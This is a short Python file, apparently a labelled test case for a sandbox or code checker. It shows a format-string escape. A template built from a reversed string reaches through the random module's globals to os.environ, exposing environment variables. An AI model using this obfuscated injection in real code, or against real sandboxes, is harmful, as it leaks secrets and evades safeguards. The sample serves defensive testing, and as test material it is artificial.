# family: format
# Escape: a dataclass keeps the template in a field; self.pattern.format is trusted as "the object's own
# template", while the tool builds the field from a reversed string: "{0.__init__.__globals__[_os].environ}".
import dataclasses
import random


@dataclasses.dataclass
class Line:
    pattern: str

    def show(self, value) -> str:
        return self.pattern.format(value)


def tool() -> str:
    return Line("".join(reversed("}norivne.]so_[__slabolg__.__tini__.0{"))).show(random.Random())
